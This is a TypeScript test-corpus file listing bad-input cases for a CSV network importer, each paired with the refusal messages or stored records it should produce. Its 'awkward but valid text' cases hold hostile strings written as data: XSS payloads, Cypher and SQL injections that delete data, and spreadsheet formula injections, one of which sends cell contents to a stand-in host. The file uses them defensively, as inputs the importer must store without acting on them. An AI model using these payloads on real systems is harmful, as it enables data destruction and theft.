import type { Actor, Tie } from "../../src/model/index.js";
import { GENERATED_CASES } from "./bad-input-generated.js";
import { resident } from "./contract.js";

/**
 * The bad-input corpus: one row per case. Each case is a nodes.csv and a ties.csv as `weave import`
 * takes them, read after the s50 network is stored (so ties may point at S01…S50), and either
 * refused with exactly the issues listed, or stored with exactly the records listed.
 * Small files live in test/fixtures/bad-input/<case>/; large ones are made by bad-input-generated.ts.
 */

/** A committed file, as a path under test/fixtures/bad-input, or a generator of its bytes. */
export type Source = string | (() => Uint8Array);

export interface ExpectedIssue {
  readonly file: "nodes.csv" | "ties.csv";
  readonly line: number;
  /** The field's column, when the problem is in one field. */
  readonly column?: number;
  /** The message, or a stable part of it. */
  readonly message: string;
}

/** A tie as the case expects it back; its id is the store's business. */
export type ExpectedTie = Omit<Tie, "id">;

export type Outcome =
  | { readonly refused: readonly ExpectedIssue[] }
  | { readonly stored: { readonly actors: readonly Actor[]; readonly ties: readonly ExpectedTie[] } };

export interface BadInputCase {
  readonly name: string;
  readonly nodes: Source;
  readonly ties: Source;
  readonly outcome: Outcome;
  /** A known bug that makes the case fail today; the suite runs it as `it.fails`. */
  readonly bug?: string;
}

const OK_NODES = "ok/nodes.csv";
const OK_TIES = "ok/ties.csv";

/** A case whose only bad file is nodes.csv, refused with these issues. */
const nodes = (name: string, ...issues: ExpectedIssue[]): BadInputCase => ({
  name,
  nodes: `${name}/nodes.csv`,
  ties: OK_TIES,
  outcome: { refused: issues },
});

const ties = (name: string, ...issues: ExpectedIssue[]): BadInputCase => ({
  name,
  nodes: OK_NODES,
  ties: `${name}/ties.csv`,
  outcome: { refused: issues },
});

const inNodes = (line: number, column: number | undefined, message: string): ExpectedIssue => ({
  file: "nodes.csv",
  line,
  column,
  message,
});
const inTies = (line: number, column: number | undefined, message: string): ExpectedIssue => ({
  file: "ties.csv",
  line,
  column,
  message,
});

const NOT_UTF8 = "the file is not UTF-8 text; save it as UTF-8 (CSV UTF-8 in a spreadsheet)";
const UTF16 = "the file is UTF-16; save it as UTF-8";
const UTF16_NO_BOM = "the file looks like UTF-16 (without a byte order mark); save it as UTF-8";

const both = (name: string, outcome: Outcome, bug?: string): BadInputCase => ({
  name,
  nodes: `${name}/nodes.csv`,
  ties: `${name}/ties.csv`,
  outcome,
  ...(bug === undefined ? {} : { bug }),
});

const tie = (source: string, target: string, extra: Partial<ExpectedTie> = {}): ExpectedTie => ({
  source,
  target,
  type: "knows",
  weight: 1,
  custom: {},
  ...extra,
});
const group = (id: string, extra: Partial<Actor>): Actor => resident(id, { kind: "group", ...extra });

const COMMITTED_CASES: readonly BadInputCase[] = [
  // The CSV itself
  nodes("empty-file", inNodes(1, undefined, "the file is empty; expected a header row starting id,name,kind")),
  ties("empty-ties-file", inTies(1, undefined, "the file is empty; expected a header row starting source,target,type")),
  nodes("blank-lines-only", inNodes(1, undefined, "the file is empty")),
  nodes("missing-column", inNodes(1, undefined, 'the header has no "kind" column')),
  ties("missing-tie-column", inTies(1, undefined, 'the header has no "type" column')),
  nodes("unnamed-column", inNodes(1, 4, "a column has no name")),
  nodes("repeated-column", inNodes(1, 4, 'the column "name" appears twice')),
  nodes("unclosed-quote", inNodes(2, 4, 'a quoted field is never closed (missing ")')),
  nodes("quote-inside-field", inNodes(2, 2, 'a quote (") inside an unquoted field')),
  nodes("text-after-quote", inNodes(2, 2, "text after a closing quote; quote the whole field")),
  nodes("too-few-fields", inNodes(3, undefined, "the row has 3 fields but the header has 4 columns")),
  ties("too-many-fields", inTies(2, undefined, "the row has 4 fields but the header has 3 columns")),
  nodes("xlsx-renamed", inNodes(1, undefined, "this is not a text file (it looks like an xlsx workbook)")),
  // As a spreadsheet with a Dutch locale saves "CSV": semicolons between the fields.
  nodes("semicolon-separated", inNodes(1, undefined, 'the file seems to use ";" as separator, and Weave reads commas')),
  both("problems-in-both-files", {
    refused: [
      inNodes(3, 3, 'kind "martian" is not one of'),
      inTies(2, 2, 'target "nobody" is not a known actor id'),
      inTies(3, 4, 'weight "0" is not a positive number'),
    ],
  }),
  // Line ends as Excel for Mac's "CSV (Macintosh)" writes them: CR only. M2 starts on line 4.
  nodes("cr-line-ends-line-numbers", inNodes(4, 3, 'kind "martian" is not one of')),

  // Actors
  nodes("unknown-kind", inNodes(3, 3, 'kind "martian" is not one of resident, group, institution, place')),
  nodes("empty-name", inNodes(2, 2, "name is empty")),
  nodes("empty-id", inNodes(2, 1, 'id "" must be 1 to 200 characters without surrounding spaces')),
  nodes("long-id", inNodes(2, 1, "must be 1 to 200 characters without surrounding spaces")),
  nodes("long-name", inNodes(2, 2, "name is 201 characters long; at most 200 are allowed")),
  nodes("long-area", inNodes(2, 4, "area is 201 characters long; at most 200 are allowed")),
  nodes("long-tag", inNodes(2, 4, "must be lower-case text of 1 to 60 characters")),
  nodes("too-many-tags", inNodes(2, 4, "interests has 201 tags; at most 200 are allowed")),
  nodes("long-custom-name", inNodes(1, 4, "custom attribute name is 101 characters long; at most 100 are allowed")),
  nodes(
    "bad-year",
    inNodes(2, 4, 'since "20x1" is not a year (four digits, e.g. 2021)'),
    inNodes(3, 5, `until "'21" is not a year`),
  ),
  nodes(
    "out-of-range-year",
    inNodes(2, 4, "since 1899 is not a year between 1900 and 2100"),
    inNodes(2, 5, "until 2101 is not a year between 1900 and 2100"),
  ),
  nodes("until-before-since", inNodes(2, 5, "until 2019 is before since 2020")),
  nodes(
    "bad-consent",
    inNodes(2, 4, 'consent "maybe" is not "yes" or "no", optionally followed by a date'),
    inNodes(3, 4, 'consent "yes 12-03-2024" is not "yes" or "no"'),
    inNodes(4, 4, 'consent date "2024-13-45" is not a date (YYYY-MM-DD, e.g. 2024-03-12)'),
    inNodes(5, 4, 'consent date "2023-02-29" is not a date'),
  ),
  nodes("consent-not-resident", inNodes(2, 4, "consent is recorded for residents only, not for a group")),
  nodes("duplicate-id", inNodes(4, 1, 'id "B1" is used twice (first at line 2)')),
  // S01 is stored as a resident with knows ties; as a group those stored ties would no longer fit.
  nodes(
    "kind-change-breaks-stored-ties",
    inNodes(2, 3, 'kind "group" does not fit the stored knows tie from "S01" to'),
  ),

  // Ties
  ties("unknown-type", inTies(2, 3, 'type "befriends" is not one of knows, member_of,')),
  ties(
    "bad-weight",
    inTies(2, 4, 'weight "x" is not a positive number'),
    inTies(3, 4, 'weight "0" is not a positive number'),
    inTies(4, 4, 'weight "-4" is not a positive number'),
    inTies(5, 4, 'weight "1e400" is not a positive number'),
  ),
  ties(
    "tie-to-unknown-id",
    inTies(2, 2, 'target "nobody" is not a known actor id'),
    inTies(3, 1, 'source "ghost" is not a known actor id'),
  ),
  ties("self-tie", inTies(2, 2, 'a tie from "S01" to itself is not allowed')),
  ties(
    "tie-not-fitting-kinds",
    inTies(2, 3, 'a member_of tie goes from resident to group, not from resident "S01" to resident "S02"'),
  ),
  ties(
    "duplicated-tie",
    inTies(4, 2, 'the same knows tie between "S02" and "S01" starting 2020 is given twice (first at line 2)'),
  ),
  ties("tie-bad-year", inTies(2, 4, 'since "soon" is not a year'), inTies(3, 5, "until 2020 is before since 2021")),

  // Control characters: refused everywhere, except tab and line breaks in notes
  nodes("nul-in-name", inNodes(2, 2, "name holds the control character U+0000")),
  nodes("escape-in-name", inNodes(2, 2, "name holds the control character U+001B")),
  nodes("tab-in-name", inNodes(2, 2, "name holds the control character U+0009")),
  nodes("control-in-id", inNodes(2, 1, 'id "B<U+0001>1" holds the control character U+0001')),
  nodes(
    "bell-in-notes",
    inNodes(2, 4, "notes holds the control character U+0007; only tab and line breaks are allowed"),
  ),
  nodes(
    "c1-control-in-area",
    inNodes(2, 4, "area holds the control character U+0085"),
    inNodes(3, 4, "area holds the control character U+007F"),
  ),
  // Three rows, one issue: the column's name is reported once, on the header line.
  nodes(
    "control-in-column-name",
    inNodes(1, 4, 'custom attribute name holds the control character U+001B ("a<U+001B>b")'),
  ),
  nodes("control-in-tag", inNodes(2, 4, 'gifts tag "sing<U+0007>ing" holds the control character U+0007')),
  nodes(
    "control-in-custom-text",
    inNodes(4, 4, "story holds the control character U+001B; only tab and line breaks are allowed"),
  ),
  ties("control-in-tie-note", inTies(2, 4, "note holds the control character U+001B")),

  // Encodings other than UTF-8, and files that are not text
  nodes("utf16le-bom", inNodes(1, undefined, UTF16)),
  nodes("utf16be-bom", inNodes(1, undefined, UTF16)),
  nodes("utf16le-no-bom", inNodes(1, undefined, UTF16_NO_BOM)),
  ties("utf16be-no-bom", inTies(1, undefined, UTF16_NO_BOM)),
  nodes("latin1", inNodes(3, undefined, NOT_UTF8)),
  nodes("random-bytes", inNodes(1, undefined, "this is not a text file (it looks like binary data)")),
  nodes("png-image", inNodes(1, undefined, "this is not a text file (it looks like a PNG image)")),
  // 1,024 NUL bytes are valid UTF-8, but no text.
  ties("nul-bytes", inTies(1, undefined, "this is not a text file (it looks like binary data)")),

  // Awkward but valid text: stored and given back byte for byte
  both("html-text", {
    stored: {
      actors: [
        resident("<b>h1</b>", {
          name: "<script>alert(1)</script>",
          area: '"><svg onload=alert(1)>',
          notes: "<img src=x onerror=alert(1)>",
        }),
        group("h2", {
          name: "</textarea><script>document.cookie</script>",
          notes: '<a href="javascript:alert(1)">x</a>',
        }),
      ],
      ties: [
        tie("<b>h1</b>", "S01", { note: "<iframe src=javascript:alert(1)></iframe>" }),
        tie("<b>h1</b>", "h2", { type: "member_of", note: "{{constructor.constructor('alert(1)')()}}" }),
      ],
    },
  }),
  both("cypher-text", {
    stored: {
      actors: [
        resident("x') DETACH DELETE n //", {
          name: "MATCH (n) RETURN n",
          notes: '"}) MATCH (n) DETACH DELETE n //',
          custom: { "x`) DETACH DELETE n //": "$param" },
        }),
        resident("c2", {
          name: "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
          notes: "{id: 1}, `weird` name",
        }),
      ],
      ties: [tie("x') DETACH DELETE n //", "c2", { note: "'}) RETURN 1 UNION MATCH (n) DETACH DELETE n //" })],
    },
  }),
  both("sql-text", {
    stored: {
      actors: [
        resident("1;DELETE FROM actors", {
          name: "'; DROP TABLE actors; --",
          area: "1 OR 1=1",
          notes: 'Robert"); DROP TABLE ties;--',
        }),
        resident("q2", { name: 'x" OR ""="', area: "%' OR '1'='1", notes: "'; SELECT sqlite_version(); --" }),
      ],
      ties: [tie("1;DELETE FROM actors", "q2", { note: "1); DELETE FROM ties WHERE (1=1" })],
    },
  }),
  both("formula-cells", {
    stored: {
      actors: [
        resident("f1", {
          name: '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
          notes: "=cmd|' /C calc'!A0",
          custom: { score: "-2", formula: "=1+1" },
        }),
        resident("f2", { name: "+1", notes: "@SUM(A1:A9)", custom: { score: "+3", formula: "-2+3" } }),
        resident("f3", {
          name: "-2",
          notes: '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
          custom: { score: "4", formula: "@x" },
        }),
        // The apostrophe Weave's own export puts before a formula is taken off again.
        resident("f4", { name: "=1+1" }),
      ],
      ties: [tie("f1", "f2", { note: "=SUM(1,2)" })],
    },
  }),
  // Excel's "sep=," line before the header: skipped.
  {
    name: "excel-sep-line",
    nodes: "excel-sep-line/nodes.csv",
    ties: OK_TIES,
    outcome: { stored: { actors: [resident("B1", { name: "Bea" })], ties: [] } },
  },
  // UTF-8 with a BOM and CRLF line ends, line breaks and a tab inside quoted notes.
  both("unicode-text", {
    stored: {
      actors: [
        resident("u1", {
          name: "Zoë Çelik",
          area: "Ærø",
          notes: "regel één\r\n\ttweede regel",
          custom: { straße: "ja" },
        }),
        group("👩‍👩‍👧", { name: "\u202eexe.live\u202c fam", area: "東京", notes: "مرحبا بالعالم" }),
        resident("u3", { name: "e\u0301\u200bx" }),
      ],
      ties: [
        tie("u1", "👩‍👩‍👧", { type: "member_of", since: 2019, weight: 3, note: "👍\r\nok" }),
        tie("u1", "S01", { weight: 2 }),
      ],
    },
  }),
  // Column names that are also names of Object.prototype's members.
  {
    name: "prototype-column-names",
    nodes: "prototype-column-names/nodes.csv",
    ties: OK_TIES,
    outcome: {
      stored: {
        actors: [
          resident("P1", {
            name: "Pia",
            custom: Object.fromEntries([
              ["__proto__", "x"],
              ["constructor", "y"],
              ["toString", "z"],
            ]),
          }),
        ],
        ties: [],
      },
    },
  },
  // CR line ends, a CR inside quoted notes, and known names in any case.
  both("cr-line-ends", {
    stored: {
      actors: [resident("M1", { name: "Mara", area: "Old Town", notes: "first\rsecond" }), group("M2", { name: "Mo" })],
      ties: [tie("M1", "M2", { type: "member_of" })],
    },
  }),
  // Ids holding ':' once gave these two different ties one tie id (issue 11 fault 2).
  both("tie-id-colon", {
    stored: {
      actors: [
        resident("Q:R", { name: "Quinn" }),
        resident("T", { name: "Tess" }),
        resident("Q", { name: "Quentin" }),
        resident("R:T", { name: "Rita" }),
      ],
      ties: [tie("Q:R", "T", { since: 2020 }), tie("Q", "R:T", { since: 2020 })],
    },
  }),
];

export const BAD_INPUT_CASES: readonly BadInputCase[] = [...COMMITTED_CASES, ...GENERATED_CASES];
